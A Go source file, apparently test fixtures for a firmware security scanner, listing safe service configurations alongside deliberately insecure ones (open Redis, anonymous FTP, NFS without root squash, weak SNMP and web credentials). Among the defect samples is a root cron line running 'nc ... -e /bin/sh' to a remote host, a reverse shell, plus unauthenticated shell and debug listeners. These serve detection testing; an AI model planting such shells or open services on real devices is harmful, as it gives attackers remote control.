// SPDX-License-Identifier: Apache-2.0

package plantroot

// serviceSkeleton are services that are set up well, among things that look bad and are not.
func serviceSkeleton() []file {
	return []file{
		{name: "etc/snmp/snmpd.conf", mode: 0o600, text: "# rocommunity public\nrocommunity Kq7pUe2x 127.0.0.1\ncreateUser op SHA \"words of its own\" AES\n"},
		{name: "etc/rc.local", mode: 0o755, text: "#!/bin/sh\necho telnetd -l /bin/sh is not started here\nif false; then\n\tttyd -W /bin/sh &\nfi\ncat > /dev/null <<EOF\ngdbserver :2345 /usr/bin/app\nEOF\nexit 0\ntelnetd -l /bin/sh\n"},
		{name: "etc/init.d/ttyd", mode: 0o755, text: "#!/bin/sh\n# not linked anywhere\nttyd -W /bin/sh\n"},
		{name: "etc/init.d/S45old", mode: 0o644, text: "#!/bin/sh\nx11vnc -nopw &\n"},
		{name: "etc/crontabs/root", mode: 0o600, text: "# */5 * * * * nc -e /bin/sh 203.0.113.9 4444\n0 3 * * * nc -z 192.0.2.1 22 || logger \"bash -i is not run\"\n"},
		{name: "etc/vsftpd.conf", mode: 0o600, text: "listen=YES\n# anonymous_enable=YES\nanonymous_enable=NO\n"},
		{name: "etc/rsyslog.conf", mode: 0o644, text: "module(load=\"imuxsock\")\n#module(load=\"imudp\")\n#input(type=\"imudp\" port=\"514\")\n*.* @@192.0.2.7:6514\n"},
		{name: "etc/miniupnpd.conf", mode: 0o644, text: "enable_upnp=yes\n#secure_mode=no\nsecure_mode=yes\n"},
		{name: "etc/redis.conf", mode: 0o640, text: "# bind 0.0.0.0\nbind 127.0.0.1 -::1\nprotected-mode yes\n"},
		{name: "etc/memcached.conf", mode: 0o644, text: "-d\n-m 64\n-l 127.0.0.1\n"},
		{name: "etc/rsyncd.conf", mode: 0o644, text: "uid = nobody\n[public]\n\tpath = /srv/public\n[upload]\n\tpath = /srv/in\n\tread only = no\n\tauth users = app\n"},
		{name: "etc/samba/smb.conf", mode: 0o644, text: "[global]\n   map to guest = bad user\n   server min protocol = SMB3\n; guest ok = yes\n[data]\n   path = /srv/data\n   Guest OK = no\n"},
		{name: "etc/config/cwmp", mode: 0o600, text: "config acs 'acs'\n\toption url 'https://acs.example/'\nconfig cpe 'cpe'\n\toption userid 'cpe'\n\toption password 'vQ8-k2Zr.7uA'\n"},
		{name: "etc/mosquitto/mosquitto.conf", mode: 0o644, text: "listener 1883 127.0.0.1\nlistener 8883\ncertfile /etc/mosquitto/c.pem\nallow_anonymous false\npassword_file /etc/mosquitto/users\n"},
		{name: "etc/dnsmasq.conf", mode: 0o644, text: "interface=br0\n# enable-tftp\n"},
		{name: "etc/httpd.conf", mode: 0o644, text: "H:/srv/www\nA:*\n# /:admin:admin\n/adm:root:*\n.svg:image/svg+xml\n"},
		{name: "srv/www/index.html", mode: 0o644, text: "<p>-----BEGIN PRIVATE KEY----- is how a key begins</p>\n"},
		{name: "srv/www/ca.pem", mode: 0o644, text: "-----BEGIN CERTIFICATE-----\nMIIB\n"},
		{name: "etc/exports", mode: 0o644, text: "# /srv *(rw,no_root_squash)\n/srv/data 192.0.2.10(ro,root_squash) 192.0.2.11(rw,no_root_squash,root_squash)\n"},
	}
}

// serviceDefects are services as they are found open.
func serviceDefects() []defect {
	return []defect{
		{rules: []string{"service.ftp"}, files: []file{{name: "etc/init.d/S60ftp", mode: 0o755, text: "#!/bin/sh\ntcpsvd -vE 0.0.0.0 21 ftpd -w /srv &\n"}}},
		{rules: []string{"service.ftp-anonymous"}, files: []file{{name: "etc/vsftpd.conf", mode: 0o600, text: "listen=YES\n#anonymous_enable=NO\nwrite_enable=YES\n"}}},
		{rules: []string{"service.tftp"}, files: []file{{name: "etc/init.d/S61tftp", mode: 0o755, text: "#!/bin/sh\nudpsvd -E 0 69 tftpd -c /srv/tftp &\n"}}},
		{rules: []string{"service.remote-shell"}, files: []file{{name: "etc/crontabs/root", mode: 0o600, text: "*/5 * * * * nc 203.0.113.9 4444 -e /bin/sh\n0 3 * * * /usr/bin/app --rotate\n"}}},
		{rules: []string{"service.web-terminal"}, files: []file{{name: "etc/init.d/S62shell", mode: 0o755, text: "#!/bin/sh\nDAEMON=/usr/bin/ttyd\nstart-stop-daemon -S -b -x $DAEMON -- -W /bin/login\n"}}},
		{rules: []string{"service.remote-display"}, files: []file{{name: "etc/init.d/S63vnc", mode: 0o755, text: "#!/bin/sh\nx11vnc -forever -nopw -bg\n"}}},
		{rules: []string{"service.remote-debug"}, files: []file{
			{name: "etc/default/debug", mode: 0o644, text: "GDB=/usr/bin/gdbserver\n"},
			{name: "etc/init.d/S64debug", mode: 0o755, text: "#!/bin/sh\n. /etc/default/debug\n$GDB --once 0.0.0.0:2345 /usr/bin/app &\n"}}},
		{rules: []string{"service.discovery"}, files: []file{{name: "etc/init.d/S65mdns", mode: 0o755, text: "#!/bin/sh\navahi-daemon -D\n"}}},
		{rules: []string{"service.syslog-listen"}, files: []file{{name: "etc/rsyslog.conf", mode: 0o644, text: "module(load=\"imudp\")\ninput(type=\"imudp\" port=\"514\")\n"}}},
		{rules: []string{"service.upnp"}, files: []file{{name: "etc/miniupnpd.conf", mode: 0o644, text: "enable_upnp=yes\nsecure_mode = no\n"}}},
		{rules: []string{"service.redis"}, files: []file{{name: "etc/redis.conf", mode: 0o640, text: "bind 0.0.0.0\nprotected-mode no\n"}}},
		{rules: []string{"service.database"}, files: []file{{name: "etc/memcached.conf", mode: 0o644, text: "-d\n-m 64\n# -l 127.0.0.1\n"}}},
		{rules: []string{"service.rsync"}, files: []file{{name: "etc/rsyncd.conf", mode: 0o644, text: "uid = root\n[all]\n\tpath = /\n\tread only = no\n[public]\n\tpath = /srv/public\n"}}},
		{rules: []string{"service.smb-guest", "service.smb-version"}, files: []file{{name: "etc/samba/smb.conf", mode: 0o644, text: "[global]\n   server min protocol = NT1\n[data]\n   path = /srv/data\n   public = yes\n"}}},
		{rules: []string{"service.cwmp"}, files: []file{{name: "etc/config/cwmp", mode: 0o600, text: "config acs 'acs'\n\toption url 'http://acs.example/'\nconfig cpe 'cpe'\n\toption password 'admin'\n"}}},
		{rules: []string{"service.mqtt-anonymous", "service.mqtt-plain"}, files: []file{{name: "etc/mosquitto/mosquitto.conf", mode: 0o644, text: "listener 1883\nallow_anonymous true\n"}}},
		{rules: []string{"service.snmp-community", "service.snmp-user"}, files: []file{{name: "etc/snmp/snmpd.conf", mode: 0o600, text: "rocommunity public\nrwcommunity private\ncreateUser op MD5 \"words of its own\" DES\n"}}},
		{rules: []string{"web.credential", "web.document-root", "web.plain", "web.cgi-root"}, files: []file{
			{name: "etc/httpd.conf", mode: 0o644, text: "H:/srv/www\nA:*\n/:admin:admin\n.svg:image/svg+xml\n"},
			{name: "srv/www/etc", link: "/etc"}, {name: "srv/adm/cgi-bin/status", mode: 0o755, text: "#!/bin/sh\necho\n"},
			{name: "usr/sbin/httpd", link: "/bin/busybox"},
			{name: "etc/init.d/S66httpd", mode: 0o755, text: "#!/bin/sh\nhttpd -p 80\n"},
			{name: "etc/init.d/S67adm", mode: 0o755, text: "#!/bin/sh\n/usr/sbin/httpd -p 8080 -h /srv/adm\n"}}},
		{rules: []string{"service.dns-side"}, files: []file{{name: "etc/dnsmasq.conf", mode: 0o644, text: "dhcp-range=192.0.2.50,192.0.2.150,12h\n#interface=br0\n"}}},
		{rules: []string{"service.nfs"}, files: []file{{name: "etc/exports", mode: 0o644, text: "/srv/data *(rw,no_root_squash)\n/srv/one 192.0.2.10(ro)\n"}}},
	}
}
